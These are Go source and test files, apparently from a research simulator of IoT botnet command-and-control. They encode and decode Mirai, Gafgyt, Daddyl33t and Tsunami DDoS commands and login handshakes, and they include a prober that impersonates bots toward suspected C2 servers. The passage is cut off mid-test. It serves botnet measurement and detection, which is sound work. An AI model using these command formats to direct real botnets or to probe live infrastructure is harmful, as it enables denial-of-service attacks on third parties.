	full, _ := legacyEncodeMiraiAttack(Command{Attack: AttackUDPFlood,
		Target: netip.MustParseAddr("192.0.2.1"), Port: 80, Duration: time.Minute})
	for cut := 0; cut < len(full); cut++ {
		_, lerr := legacyDecodeMiraiAttack(full[:cut])
		_, gerr := p.DecodeCommand(full[:cut])
		if (lerr == nil) != (gerr == nil) {
			t.Fatalf("truncation %d: legacy err=%v spec err=%v", cut, lerr, gerr)
		}
	}
	// Unknown vectors agree.
	bad := append([]byte{}, full...)
	bad[6] = 99
	if _, err := p.DecodeCommand(bad); !errors.Is(err, spec.ErrVector) {
		t.Fatalf("unknown vector: err = %v, want ErrVector", err)
	}
}

func TestSpecEquivalenceMiraiHandshake(t *testing.T) {
	p := mustLookup(t, FamilyMirai)
	if got := p.Login(spec.LoginVars{}); len(got) != 1 || !bytes.Equal(got[0], MiraiHandshake) {
		t.Fatalf("login = %q, want the 4-byte handshake", got)
	}
	wire, every, ok := p.ClientKeepalive()
	if !ok || !bytes.Equal(wire, MiraiPing) || every != time.Minute {
		t.Fatalf("client keepalive = %q/%v/%v", wire, every, ok)
	}
	sess := p.NewSession()
	for _, probe := range [][]byte{{0, 0, 0, 2}, {0}, nil} {
		if legacyIsMiraiHandshake(probe) {
			t.Fatalf("legacy accepted %x", probe)
		}
		if evs := sess.Data(probe); len(evs) != 0 {
			t.Fatalf("session reacted to %x: %v", probe, evs)
		}
	}
	if evs := sess.Data(MiraiHandshake); len(evs) != 1 || !evs[0].Ready {
		t.Fatalf("handshake events = %v, want ready", evs)
	}
	if evs := sess.Data(MiraiPing); len(evs) != 1 || !bytes.Equal(evs[0].Write, MiraiPing) {
		t.Fatalf("ping events = %v, want echo", evs)
	}
	if !legacyIsMiraiPing(MiraiPing) || legacyIsMiraiPing([]byte{0, 0, 0}) {
		t.Fatal("legacy ping classifier sanity check failed")
	}
}

func TestSpecEquivalenceGafgyt(t *testing.T) {
	p := mustLookup(t, FamilyGafgyt)
	attacks := []AttackType{AttackUDPFlood, AttackSYNFlood, AttackVSE, AttackSTD}
	for _, cmd := range commandSpace(attacks) {
		legacy, lerr := legacyEncodeGafgytCommand(cmd)
		got, gerr := p.EncodeCommand(cmd)
		if (lerr == nil) != (gerr == nil) {
			t.Fatalf("encode %v: legacy err=%v spec err=%v", cmd, lerr, gerr)
		}
		if !bytes.Equal(legacy, got) {
			t.Fatalf("encode %v:\nlegacy %q\nspec   %q", cmd, legacy, got)
		}
		lc, _ := legacyParseGafgytLine(string(legacy))
		gc, gerr := p.DecodeCommand(got)
		if gerr != nil {
			t.Fatalf("decode %q: %v", got, gerr)
		}
		if !reflect.DeepEqual(lc, gc) {
			t.Fatalf("decode %q:\nlegacy %+v\nspec   %+v", legacy, lc, gc)
		}
	}
	// Error-class parity: chatter vs malformed.
	lines := []string{
		"PING", "PONG!", "", "hello world", "!*", "UDP 192.0.2.1 80 60",
		"!* UDP 192.0.2.1 80", "!* WAT 192.0.2.1 80 60", "!* UDP nope 80 60",
		"!* UDP 192.0.2.1 99999 60", "!* UDP 192.0.2.1 80 -5",
		"  !* UDP 192.0.2.1 80 60  ",
	}
	for _, ln := range lines {
		lc, lerr := legacyParseGafgytLine(ln)
		gc, gerr := p.DecodeCommand([]byte(ln + "\n"))
		if (lerr == nil) != (gerr == nil) {
			t.Fatalf("%q: legacy err=%v spec err=%v", ln, lerr, gerr)
		}
		if errors.Is(lerr, errLegacyNotCommand) != errors.Is(gerr, ErrNotCommand) {
			t.Fatalf("%q: chatter class mismatch: legacy %v, spec %v", ln, lerr, gerr)
		}
		if errors.Is(lerr, errLegacyBadCommand) != errors.Is(gerr, ErrBadCommand) {
			t.Fatalf("%q: malformed class mismatch: legacy %v, spec %v", ln, lerr, gerr)
		}
		if lerr == nil && !reflect.DeepEqual(lc, gc) {
			t.Fatalf("%q: legacy %+v spec %+v", ln, lc, gc)
		}
	}
}

func TestSpecEquivalenceDaddyl33t(t *testing.T) {
	p := mustLookup(t, FamilyDaddyl33t)
	attacks := []AttackType{AttackUDPFlood, AttackSYNFlood, AttackTLS, AttackBlacknurse, AttackNFO}
	for _, cmd := range commandSpace(attacks) {
		if cmd.Attack == AttackBlacknurse {
			cmd.Port = 0 // portless on the wire
		}
		legacy, lerr := legacyEncodeDaddyCommand(cmd)
		got, gerr := p.EncodeCommand(cmd)
		if (lerr == nil) != (gerr == nil) {
			t.Fatalf("encode %v: legacy err=%v spec err=%v", cmd, lerr, gerr)
		}
		if !bytes.Equal(legacy, got) {
			t.Fatalf("encode %v:\nlegacy %q\nspec   %q", cmd, legacy, got)
		}
		lc, _ := legacyParseDaddyLine(string(legacy))
		gc, gerr := p.DecodeCommand(got)
		if gerr != nil {
			t.Fatalf("decode %q: %v", got, gerr)
		}
		if !reflect.DeepEqual(lc, gc) {
			t.Fatalf("decode %q:\nlegacy %+v\nspec   %+v", legacy, lc, gc)
		}
	}
	lines := []string{
		"!ping", "!pong", "", "UDPRAW 192.0.2.1 80", "NURSE 192.0.2.1",
		"NURSE 192.0.2.1 60", "WAT 192.0.2.1 80 60", "UDPRAW nope 80 60",
		"HYDRASYN 192.0.2.1 80 60", "NFOV6 192.0.2.1 238 60",
	}
	for _, ln := range lines {
		lc, lerr := legacyParseDaddyLine(ln)
		gc, gerr := p.DecodeCommand([]byte(ln + "\n"))
		if (lerr == nil) != (gerr == nil) {
			t.Fatalf("%q: legacy err=%v spec err=%v", ln, lerr, gerr)
		}
		if errors.Is(lerr, errLegacyNotCommand) != errors.Is(gerr, ErrNotCommand) {
			t.Fatalf("%q: chatter class mismatch: legacy %v, spec %v", ln, lerr, gerr)
		}
		if lerr == nil && !reflect.DeepEqual(lc, gc) {
			t.Fatalf("%q: legacy %+v spec %+v", ln, lc, gc)
		}
	}
}

func TestSpecEquivalenceLogins(t *testing.T) {
	cases := []struct {
		family string
		vars   spec.LoginVars
		want   [][]byte
	}{
		{FamilyMirai, spec.LoginVars{}, [][]byte{MiraiHandshake}},
		{FamilyGafgyt, spec.LoginVars{Variant: "V2"},
			[][]byte{[]byte("BUILD GAFGYT V2\n")}},
		{FamilyDaddyl33t, spec.LoginVars{Nick: "Daddyl33t|x86|0042"},
			[][]byte{[]byte("l33t Daddyl33t|x86|0042\n")}},
		{FamilyTsunami, spec.LoginVars{Nick: "Tsunami|x86|0042"}, [][]byte{
			IRCMessage{Command: "NICK", Params: []string{"Tsunami|x86|0042"}}.EncodeIRC(),
			IRCMessage{Command: "USER", Params: []string{"Tsunami|x86|0042", "8", "*"}, Trailing: "tsunami"}.EncodeIRC(),
		}},
		{FamilyVPNFilter, spec.LoginVars{},
			[][]byte{[]byte("GET /user/vpnf/update.jpg HTTP/1.1\r\nHost: update\r\nUser-Agent: curl/7.47\r\n\r\n")}},
	}
	for _, tc := range cases {
		p := mustLookup(t, tc.family)
		got := p.Login(tc.vars)
		if len(got) != len(tc.want) {
			t.Fatalf("%s: %d login messages, want %d", tc.family, len(got), len(tc.want))
		}
		for i := range got {
			if !bytes.Equal(got[i], tc.want[i]) {
				t.Fatalf("%s login[%d]:\ngot  %q\nwant %q", tc.family, i, got[i], tc.want[i])
			}
		}
	}
}

func TestSpecEquivalenceKeepalives(t *testing.T) {
	for _, tc := range []struct {
		family string
		server string
	}{
		{FamilyGafgyt, GafgytPing + "\n"},
		{FamilyDaddyl33t, DaddyPing + "\n"},
		{FamilyTsunami, string(IRCMessage{Command: "PING", Trailing: "c2"}.EncodeIRC())},
	} {
		p := mustLookup(t, tc.family)
		wire, ok := p.ServerKeepalive()
		if !ok || string(wire) != tc.server {
			t.Fatalf("%s server keepalive = %q/%v, want %q", tc.family, wire, ok, tc.server)
		}
	}
	for _, tc := range []struct {
		family     string
		ping, pong string
	}{
		{FamilyGafgyt, GafgytPing + "\n", GafgytPong + "\n"},
		{FamilyDaddyl33t, DaddyPing + "\n", DaddyPong + "\n"},
	} {
		cl := mustLookup(t, tc.family).NewClient()
		evs := cl.Data([]byte(tc.ping))
		if len(evs) != 1 || string(evs[0].Write) != tc.pong {
			t.Fatalf("%s client answered %v, want %q", tc.family, evs, tc.pong)
		}
	}
	// Mirai client swallows the server's echo of its own ping.
	if evs := mustLookup(t, FamilyMirai).NewClient().Data(MiraiPing); len(evs) != 0 {
		t.Fatalf("mirai client reacted to ping echo: %v", evs)
	}
}

func TestSpecEquivalenceProbes(t *testing.T) {
	legacyMsgs := map[string][][]byte{
		FamilyMirai:     {MiraiHandshake, MiraiPing},
		FamilyGafgyt:    {[]byte("BUILD GAFGYT PROBE\n")},
		FamilyDaddyl33t: {[]byte("l33t probe\n")},
		FamilyTsunami: {
			IRCMessage{Command: "NICK", Params: []string{"probe"}}.EncodeIRC(),
			IRCMessage{Command: "USER", Params: []string{"probe", "8", "*"}, Trailing: "probe"}.EncodeIRC(),
		},
		FamilyHajime: {{0x00, 0x00, 0x00, 0x01}}, // generic fallback
	}
	for family, want := range legacyMsgs {
		got := ProbeHandshake(family)
		if len(got) != len(want) {
			t.Fatalf("%s: %d probe messages, want %d", family, len(got), len(want))
		}
		for i := range got {
			if !bytes.Equal(got[i], want[i]) {
				t.Fatalf("%s probe[%d]:\ngot  %q\nwant %q", family, i, got[i], want[i])
			}
		}
	}
	engage := []struct {
		family string
		data   []byte
		want   bool
	}{
		{FamilyMirai, MiraiPing, true},
		{FamilyMirai, []byte{0, 0, 0}, false},
		{FamilyGafgyt, []byte("PING\n"), true},
		{FamilyGafgyt, []byte("hello"), false},
		{FamilyDaddyl33t, []byte("!ping\n"), true},
		{FamilyDaddyl33t, []byte("PING\n"), false},
		{FamilyTsunami, []byte(":c2 001 probe :welcome\r\n"), true},
		{FamilyTsunami, []byte("banner 001 x"), true},
		{FamilyTsunami, []byte("hello"), false},
		{FamilyHajime, []byte("x"), true},
		{FamilyHajime, nil, false},
	}
	for _, tc := range engage {
		if got := ProbeEngaged(tc.family, tc.data); got != tc.want {
			t.Fatalf("ProbeEngaged(%s, %q) = %v, want %v", tc.family, tc.data, got, tc.want)
		}
	}
}

func TestSpecEquivalenceSignatures(t *testing.T) {
	// The payload → label table the hand-written c2Signature switch
	// implemented; each must be claimed by exactly its family.
	cases := []struct {
		payload []byte
		family  string
		label   string
	}{
		{MiraiHandshake, FamilyMirai, "mirai-handshake"},
		{[]byte("BUILD GAFGYT V1\n"), FamilyGafgyt, "gafgyt-login"},
		{[]byte("l33t D|x86|0001\n"), FamilyDaddyl33t, "daddyl33t-login"},
		{[]byte("NICK bot42\r\n"), FamilyTsunami, "irc-register"},
		{[]byte("GET /user/vpnf/update.jpg HTTP/1.1\r\n"), FamilyVPNFilter, "vpnfilter-beacon"},
	}
	for _, tc := range cases {
		var claimed []string
		for _, p := range Protocols() {
			if label, ok := p.Signature(tc.payload); ok {
				claimed = append(claimed, p.Name()+"="+label)
			}
		}
		want := tc.family + "=" + tc.label
		if len(claimed) != 1 || claimed[0] != want {
			t.Fatalf("payload %q claimed by %v, want [%s]", tc.payload, claimed, want)
		}
	}
}

func TestRegistryTable6Order(t *testing.T) {
	want := []string{
		FamilyMirai, FamilyGafgyt, FamilyTsunami, FamilyDaddyl33t,
		FamilyHajime, FamilyMozi, FamilyVPNFilter, FamilyWisp, FamilySora,
	}
	got := Protocols()
	if len(got) != len(want) {
		t.Fatalf("%d protocols, want %d", len(got), len(want))
	}
	for i, p := range got {
		if p.Name() != want[i] {
			t.Fatalf("protocol[%d] = %s, want %s", i, p.Name(), want[i])
		}
	}
}
