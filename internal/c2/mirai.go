package c2

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net/netip"
	"time"
)

// Mirai's binary C2 protocol, following the leaked source: a 4-byte
// handshake, 2-byte keepalive pings echoed by the server, and
// length-prefixed attack commands of the form
//
//	u16 total_len | u32 duration | u8 vector | u8 n_targets |
//	n * (ipv4[4] | netmask u8) | u8 n_opts | n * (key u8 | len u8 | val)
var (
	// MiraiHandshake is the bot's opening message (version 1).
	MiraiHandshake = []byte{0x00, 0x00, 0x00, 0x01}
	// MiraiPing is the 2-byte keepalive, echoed verbatim by the C2.
	MiraiPing = []byte{0x00, 0x00}
)

// Mirai attack vector ids (subset used in the study's traffic).
const (
	MiraiVecUDP   = 0 // "UDP Flood" — command value "0" per §5.1
	MiraiVecVSE   = 1
	MiraiVecSYN   = 3
	MiraiVecSTOMP = 5
	MiraiVecTLS   = 33 // variant-specific extension seen in the wild
)

// Mirai attack option keys (from the leaked source's attack.h).
const (
	miraiOptSport = 6
	miraiOptDport = 7
)

// Mirai decode errors.
var (
	ErrMiraiShort  = errors.New("c2: short mirai command")
	ErrMiraiVector = errors.New("c2: unknown mirai attack vector")
)

func miraiVector(a AttackType) (uint8, error) {
	switch a {
	case AttackUDPFlood:
		return MiraiVecUDP, nil
	case AttackVSE:
		return MiraiVecVSE, nil
	case AttackSYNFlood:
		return MiraiVecSYN, nil
	case AttackSTOMP:
		return MiraiVecSTOMP, nil
	case AttackTLS:
		return MiraiVecTLS, nil
	}
	return 0, fmt.Errorf("%w: %v not a mirai attack", ErrMiraiVector, a)
}

func miraiAttack(vec uint8) (AttackType, error) {
	switch vec {
	case MiraiVecUDP:
		return AttackUDPFlood, nil
	case MiraiVecVSE:
		return AttackVSE, nil
	case MiraiVecSYN:
		return AttackSYNFlood, nil
	case MiraiVecSTOMP:
		return AttackSTOMP, nil
	case MiraiVecTLS:
		return AttackTLS, nil
	}
	return 0, fmt.Errorf("%w: vector %d", ErrMiraiVector, vec)
}

// EncodeMiraiAttack renders cmd as a Mirai C2 attack message.
func EncodeMiraiAttack(cmd Command) ([]byte, error) {
	vec, err := miraiVector(cmd.Attack)
	if err != nil {
		return nil, err
	}
	if !cmd.Target.Is4() {
		return nil, fmt.Errorf("c2: mirai target %v is not IPv4", cmd.Target)
	}
	body := make([]byte, 0, 16)
	body = binary.BigEndian.AppendUint32(body, uint32(cmd.Duration.Seconds()))
	body = append(body, vec, 1) // one target
	ip := cmd.Target.As4()
	body = append(body, ip[:]...)
	body = append(body, 32) // /32
	if cmd.Port != 0 {
		body = append(body, 1, miraiOptDport, 2)
		body = binary.BigEndian.AppendUint16(body, cmd.Port)
	} else {
		body = append(body, 0)
	}
	out := make([]byte, 2, 2+len(body))
	binary.BigEndian.PutUint16(out, uint16(2+len(body)))
	return append(out, body...), nil
}

// DecodeMiraiAttack parses a Mirai attack message. It returns the
// first target (the study's commands carry one).
func DecodeMiraiAttack(b []byte) (*Command, error) {
	if len(b) < 2 {
		return nil, ErrMiraiShort
	}
	total := int(binary.BigEndian.Uint16(b))
	if total > len(b) || total < 8 {
		return nil, ErrMiraiShort
	}
	body := b[2:total]
	if len(body) < 6 {
		return nil, ErrMiraiShort
	}
	dur := time.Duration(binary.BigEndian.Uint32(body)) * time.Second
	attack, err := miraiAttack(body[4])
	if err != nil {
		return nil, err
	}
	n := int(body[5])
	pos := 6
	if n < 1 || len(body) < pos+5*n+1 {
		return nil, ErrMiraiShort
	}
	target := netip.AddrFrom4([4]byte(body[pos : pos+4]))
	pos += 5 * n
	cmd := &Command{Attack: attack, Target: target, Duration: dur, Raw: b[:total]}
	nOpts := int(body[pos])
	pos++
	for i := 0; i < nOpts; i++ {
		if len(body) < pos+2 {
			return nil, ErrMiraiShort
		}
		key, vlen := body[pos], int(body[pos+1])
		pos += 2
		if len(body) < pos+vlen {
			return nil, ErrMiraiShort
		}
		if key == miraiOptDport && vlen == 2 {
			cmd.Port = binary.BigEndian.Uint16(body[pos:])
		}
		pos += vlen
	}
	if attack == AttackTLS {
		cmd.TCPTransport = true // Mirai's TLS variant attacks TCP
	}
	return cmd, nil
}

// IsMiraiHandshake reports whether b opens a Mirai bot session.
func IsMiraiHandshake(b []byte) bool {
	return len(b) >= 4 && b[0] == 0 && b[1] == 0 && b[2] == 0 && b[3] == 1
}

// IsMiraiPing reports whether b is the 2-byte keepalive.
func IsMiraiPing(b []byte) bool {
	return len(b) == 2 && b[0] == 0 && b[1] == 0
}
