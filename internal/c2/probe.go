package c2

import "bytes"

// Weaponized-probe protocol helpers (§2.1's second mode): the
// messages a probing client sends to elicit C2 engagement, and the
// classifier for the server's reaction. They are shared by the
// simulated probing study (internal/core) and the real-network
// prober (internal/realprobe) — one protocol implementation, two
// transports.

// ProbeHandshake returns the message sequence a weaponized bot of
// the family opens a session with.
func ProbeHandshake(family string) [][]byte {
	switch family {
	case FamilyMirai:
		// Handshake, then a keepalive ping the C2 will echo.
		return [][]byte{MiraiHandshake, MiraiPing}
	case FamilyGafgyt:
		return [][]byte{[]byte("BUILD GAFGYT PROBE\n")}
	case FamilyDaddyl33t:
		return [][]byte{[]byte("l33t probe\n")}
	case FamilyTsunami:
		return [][]byte{
			IRCMessage{Command: "NICK", Params: []string{"probe"}}.EncodeIRC(),
			IRCMessage{Command: "USER", Params: []string{"probe", "8", "*"}, Trailing: "probe"}.EncodeIRC(),
		}
	}
	return [][]byte{{0x00, 0x00, 0x00, 0x01}}
}

// ProbeEngaged reports whether data from the peer is C2-protocol
// engagement for the family.
func ProbeEngaged(family string, data []byte) bool {
	switch family {
	case FamilyMirai:
		return IsMiraiPing(data)
	case FamilyGafgyt:
		return bytes.Contains(data, []byte(GafgytPing))
	case FamilyDaddyl33t:
		return bytes.Contains(data, []byte(DaddyPing))
	case FamilyTsunami:
		return bytes.Contains(data, []byte(" 001 ")) || bytes.HasPrefix(data, []byte(":"))
	}
	return len(data) > 0
}

// WellKnownBanner reports whether data opens with a benign service
// banner (Apache, nginx, SSH, SMTP/FTP, IMAP) — the probing ethics
// filter (§2.6) that excludes ordinary servers from C2 candidacy.
func WellKnownBanner(data []byte) bool {
	for _, sig := range [][]byte{[]byte("HTTP/"), []byte("SSH-"), []byte("220 "), []byte("* OK")} {
		if bytes.HasPrefix(data, sig) {
			return true
		}
	}
	return false
}
