package c2

import (
	"bytes"
	"errors"
	"syscall"
	"time"

	"malnet/internal/detrand"
	"malnet/internal/simnet"
)

// Weaponized-probe protocol helpers (§2.1's second mode): the
// messages a probing client sends to elicit C2 engagement, and the
// classifier for the server's reaction. They are shared by the
// simulated probing study (internal/core) and the real-network
// prober (internal/realprobe) — one protocol implementation, two
// transports.

// ProbeHandshake returns the message sequence a weaponized bot of
// the family opens a session with. Families whose spec declares no
// probe (and unknown families) get a generic 4-byte poke.
func ProbeHandshake(family string) [][]byte {
	if p, ok := Lookup(family); ok {
		if msgs := p.ProbeMessages(); msgs != nil {
			return msgs
		}
	}
	return [][]byte{{0x00, 0x00, 0x00, 0x01}}
}

// ProbeEngaged reports whether data from the peer is C2-protocol
// engagement for the family; without a spec probe rule, any data
// counts.
func ProbeEngaged(family string, data []byte) bool {
	if p, ok := Lookup(family); ok && p.Spec().Probe != nil {
		return p.ProbeEngaged(data)
	}
	return len(data) > 0
}

// WellKnownBanner reports whether data opens with a benign service
// banner (Apache, nginx, SSH, SMTP/FTP, IMAP) — the probing ethics
// filter (§2.6) that excludes ordinary servers from C2 candidacy.
func WellKnownBanner(data []byte) bool {
	for _, sig := range [][]byte{[]byte("HTTP/"), []byte("SSH-"), []byte("220 "), []byte("* OK")} {
		if bytes.HasPrefix(data, sig) {
			return true
		}
	}
	return false
}

// AliveOnReset reports whether a session-ending error still proves a
// live host at the far end. An RST mid-read (during the banner wait,
// say) means SOMETHING completed a handshake and then tore the
// connection down — "alive but rude", per the paper's liveness
// definition, not dead. Timeouts and refusals stay inconclusive /
// dead. Covers both the simulated transport and real sockets.
func AliveOnReset(err error) bool {
	return errors.Is(err, simnet.ErrReset) || errors.Is(err, syscall.ECONNRESET)
}

// TransientProbeError reports whether a probe failure is worth a
// retry: timeouts (host momentarily dark, SYN eaten) and resets
// (half-dead server mid-teardown) are transient under a flaky
// network; an active refusal is a conclusive "no listener" and is
// not retried.
func TransientProbeError(err error) bool {
	return errors.Is(err, simnet.ErrTimeout) || AliveOnReset(err) ||
		errors.Is(err, syscall.ETIMEDOUT)
}

// Backoff is a deterministic bounded-exponential retry schedule with
// seed-derived jitter. It is pure arithmetic — no wall clock, no
// mutable state — so the simulated probing study can drive it from a
// simclock and reproduce the exact same delays at any worker count,
// and a fuzzer can assert its invariants directly:
//
//   - Delay(n) is monotone non-decreasing in n,
//   - Delay(n) never exceeds Cap,
//   - two Backoffs with equal fields agree on every delay.
//
// Jitter multiplies the raw exponential step by [1, 2) before the
// cap, which preserves monotonicity: the uncapped steps double, so a
// jittered step can never overtake its successor.
type Backoff struct {
	// Base is the first delay; zero or negative defaults to 1 s.
	Base time.Duration
	// Cap bounds every delay; zero or negative defaults to 60 s.
	Cap time.Duration
	// Seed and Key derive the jitter stream; probes use the target
	// address and round so each probe's schedule is independent.
	Seed int64
	Key  string
}

// backoffDefaults returns base and cap with degenerate zero values
// replaced.
func (b Backoff) backoffDefaults() (base, cap time.Duration) {
	base, cap = b.Base, b.Cap
	if base <= 0 {
		base = time.Second
	}
	if cap <= 0 {
		cap = 60 * time.Second
	}
	if cap < base {
		cap = base
	}
	return base, cap
}

// Delay returns the wait before retry attempt (0-indexed: attempt 0
// is the delay after the first failure).
func (b Backoff) Delay(attempt int) time.Duration {
	base, cap := b.backoffDefaults()
	if attempt < 0 {
		attempt = 0
	}
	// Raw exponential step with overflow guard: once the doubling
	// passes the cap the jittered value is capped anyway.
	raw := base
	for i := 0; i < attempt; i++ {
		raw *= 2
		if raw >= cap || raw < 0 {
			return cap
		}
	}
	frac := detrand.Float01(b.Seed, "backoff", b.Key, itoa(attempt))
	jittered := raw + time.Duration(frac*float64(raw))
	if jittered > cap || jittered < 0 {
		return cap
	}
	return jittered
}

// itoa is strconv.Itoa without the import (this file is otherwise
// free of it); attempts are small.
func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	neg := n < 0
	if neg {
		n = -n
	}
	var buf [24]byte
	i := len(buf)
	for n > 0 {
		i--
		buf[i] = byte('0' + n%10)
		n /= 10
	}
	if neg {
		i--
		buf[i] = '-'
	}
	return string(buf[i:])
}
