// Package c2 implements the command-and-control layer of the study's
// botnet families: the C2 server with the duty-cycle "elusiveness"
// model §3.2 measures, the co-hosted malware downloader (§3.1:
// downloader and C2 are often the same server), and a registry of
// compiled protocol specs (internal/c2/spec) covering Mirai's binary
// protocol, Gafgyt's and Daddyl33t's text protocols, Tsunami's IRC
// dialect, and the scenario-pack families.
//
// Protocols are declarative: each family is a spec.ProtocolSpec
// compiled once at init and registered under its family name. The
// same compiled protocol drives the simulated bots, the C2 servers,
// and the pipeline's traffic profilers (§2.5a builds its
// DDoS-command extractors from these protocol profiles), so a new
// family is one spec value, not four hand-written implementations.
package c2

import "malnet/internal/c2/spec"

// The command model lives in the spec package; these aliases keep
// the pipeline-facing names (c2.Command in checkpoints, datasets,
// DDoSObservation) stable.
type (
	// AttackType is one of the eight observed DDoS attack types (§5.1).
	AttackType = spec.AttackType
	// Command is a parsed DDoS command.
	Command = spec.Command
	// IRCMessage is one parsed IRC line.
	IRCMessage = spec.IRCMessage
)

// The eight attack types of Figure 11.
const (
	AttackUDPFlood   = spec.AttackUDPFlood
	AttackSYNFlood   = spec.AttackSYNFlood
	AttackTLS        = spec.AttackTLS
	AttackBlacknurse = spec.AttackBlacknurse
	AttackSTOMP      = spec.AttackSTOMP
	AttackVSE        = spec.AttackVSE
	AttackSTD        = spec.AttackSTD
	AttackNFO        = spec.AttackNFO
)

// Text protocol errors.
var (
	ErrNotCommand = spec.ErrNotCommand
	ErrBadCommand = spec.ErrBadCommand
)

// ParseIRC parses one IRC line (without its CRLF).
func ParseIRC(line string) (IRCMessage, error) { return spec.ParseIRC(line) }

// Lines splits a text-protocol buffer into complete lines, returning
// them and any trailing partial line — protocol parsers use it so
// they behave identically over message-preserving simnet conns and
// real TCP streams.
func Lines(buf []byte) (lines []string, rest []byte) { return spec.Lines(buf) }

// Family names used across the pipeline.
const (
	FamilyMirai     = "mirai"
	FamilyGafgyt    = "gafgyt"
	FamilyTsunami   = "tsunami"
	FamilyDaddyl33t = "daddyl33t"
	FamilyMozi      = "mozi"
	FamilyHajime    = "hajime"
	FamilyVPNFilter = "vpnfilter"

	// Scenario-pack families (not part of the paper's seven; worlds
	// include them only when the scenario config enables them).
	FamilyWisp = "wisp" // P2P relay topology (Mozi-style command relay)
	FamilySora = "sora" // DGA-style endpoint churn
)
