package c2

import (
	"bytes"
	"net/netip"
	"strings"
	"testing"
	"testing/quick"
	"time"
)

var target = netip.MustParseAddr("198.51.100.9")

func proto(t *testing.T, family string) Protocol {
	t.Helper()
	p, ok := Lookup(family)
	if !ok {
		t.Fatalf("Lookup(%q): not registered", family)
	}
	return p
}

func TestMiraiAttackRoundTrip(t *testing.T) {
	p := proto(t, FamilyMirai)
	for _, attack := range []AttackType{AttackUDPFlood, AttackSYNFlood, AttackSTOMP, AttackVSE, AttackTLS} {
		cmd := Command{Attack: attack, Target: target, Port: 80, Duration: 60 * time.Second}
		wire, err := p.EncodeCommand(cmd)
		if err != nil {
			t.Fatalf("%v: %v", attack, err)
		}
		got, err := p.DecodeCommand(wire)
		if err != nil {
			t.Fatalf("%v: %v", attack, err)
		}
		if got.Attack != attack || got.Target != target || got.Port != 80 || got.Duration != time.Minute {
			t.Fatalf("%v: decoded %+v", attack, got)
		}
	}
}

func TestMiraiUDPFloodUsesVectorZero(t *testing.T) {
	// §5.1: "Mirai uses value 0 in the DDOS command to refer to
	// this attack."
	wire, _ := proto(t, FamilyMirai).EncodeCommand(Command{Attack: AttackUDPFlood, Target: target, Port: 80, Duration: time.Minute})
	if wire[6] != 0 {
		t.Fatalf("vector byte = %d, want 0", wire[6])
	}
}

func TestMiraiPortlessCommand(t *testing.T) {
	p := proto(t, FamilyMirai)
	cmd := Command{Attack: AttackSYNFlood, Target: target, Duration: 30 * time.Second}
	wire, err := p.EncodeCommand(cmd)
	if err != nil {
		t.Fatal(err)
	}
	got, err := p.DecodeCommand(wire)
	if err != nil {
		t.Fatal(err)
	}
	if got.Port != 0 {
		t.Fatalf("port = %d, want 0", got.Port)
	}
}

func TestMiraiTLSMarksTCPTransport(t *testing.T) {
	p := proto(t, FamilyMirai)
	wire, _ := p.EncodeCommand(Command{Attack: AttackTLS, Target: target, Port: 443, Duration: time.Minute})
	got, err := p.DecodeCommand(wire)
	if err != nil {
		t.Fatal(err)
	}
	if !got.TCPTransport {
		t.Fatal("Mirai TLS command must mark TCP transport")
	}
}

func TestMiraiDecodeRejectsShort(t *testing.T) {
	p := proto(t, FamilyMirai)
	if _, err := p.DecodeCommand([]byte{0, 5, 1}); err == nil {
		t.Fatal("short command decoded")
	}
	if _, err := p.DecodeCommand(nil); err == nil {
		t.Fatal("nil command decoded")
	}
}

func TestMiraiDecodeRejectsUnknownVector(t *testing.T) {
	p := proto(t, FamilyMirai)
	wire, _ := p.EncodeCommand(Command{Attack: AttackUDPFlood, Target: target, Port: 80, Duration: time.Minute})
	wire[6] = 99
	if _, err := p.DecodeCommand(wire); err == nil {
		t.Fatal("unknown vector decoded")
	}
}

func TestMiraiHandshakeAndPing(t *testing.T) {
	// The spec-driven session recognizes the canonical handshake and
	// echoes the canonical ping; near-misses do nothing.
	sess := proto(t, FamilyMirai).NewSession()
	if evs := sess.Data([]byte{0, 0, 0, 2}); len(evs) != 0 {
		t.Fatal("wrong version accepted")
	}
	evs := sess.Data(MiraiHandshake)
	if len(evs) != 1 || !evs[0].Ready {
		t.Fatalf("canonical handshake not recognized: %v", evs)
	}
	if evs := sess.Data([]byte{0, 0, 0}); len(evs) != 0 {
		t.Fatal("3-byte ping accepted")
	}
	evs = sess.Data(MiraiPing)
	if len(evs) != 1 || !bytes.Equal(evs[0].Write, MiraiPing) {
		t.Fatalf("canonical ping not echoed: %v", evs)
	}
}

func TestGafgytRoundTrip(t *testing.T) {
	p := proto(t, FamilyGafgyt)
	for _, attack := range []AttackType{AttackUDPFlood, AttackSYNFlood, AttackVSE, AttackSTD} {
		cmd := Command{Attack: attack, Target: target, Port: 80, Duration: 60 * time.Second}
		wire, err := p.EncodeCommand(cmd)
		if err != nil {
			t.Fatalf("%v: %v", attack, err)
		}
		got, err := p.DecodeCommand(wire)
		if err != nil {
			t.Fatalf("%v: %v", attack, err)
		}
		if got.Attack != attack || got.Target != target || got.Port != 80 {
			t.Fatalf("%v: %+v", attack, got)
		}
	}
}

func TestGafgytUDPWireFormat(t *testing.T) {
	// §5.1: "Gafgyt uses the string UDP ... to launch this attack".
	wire, _ := proto(t, FamilyGafgyt).EncodeCommand(Command{Attack: AttackUDPFlood, Target: target, Port: 80, Duration: time.Minute})
	if !strings.HasPrefix(string(wire), "!* UDP 198.51.100.9 80 60") {
		t.Fatalf("wire = %q", wire)
	}
}

func TestGafgytChatterIsNotCommand(t *testing.T) {
	p := proto(t, FamilyGafgyt)
	for _, line := range []string{"PING", "PONG!", "", "hello"} {
		if _, err := p.DecodeCommand([]byte(line)); err != ErrNotCommand {
			t.Fatalf("%q: err = %v, want ErrNotCommand", line, err)
		}
	}
}

func TestGafgytMalformedCommand(t *testing.T) {
	p := proto(t, FamilyGafgyt)
	for _, line := range []string{"!* UDP", "!* UDP notanip 80 60", "!* UDP 1.2.3.4 99999 60", "!* WAT 1.2.3.4 80 60"} {
		if _, err := p.DecodeCommand([]byte(line)); err == nil {
			t.Fatalf("%q parsed", line)
		}
	}
}

func TestDaddyRoundTrip(t *testing.T) {
	p := proto(t, FamilyDaddyl33t)
	for _, attack := range []AttackType{AttackUDPFlood, AttackSYNFlood, AttackTLS, AttackNFO} {
		cmd := Command{Attack: attack, Target: target, Port: 4567, Duration: 120 * time.Second}
		wire, err := p.EncodeCommand(cmd)
		if err != nil {
			t.Fatalf("%v: %v", attack, err)
		}
		got, err := p.DecodeCommand(wire)
		if err != nil {
			t.Fatalf("%v: %v", attack, err)
		}
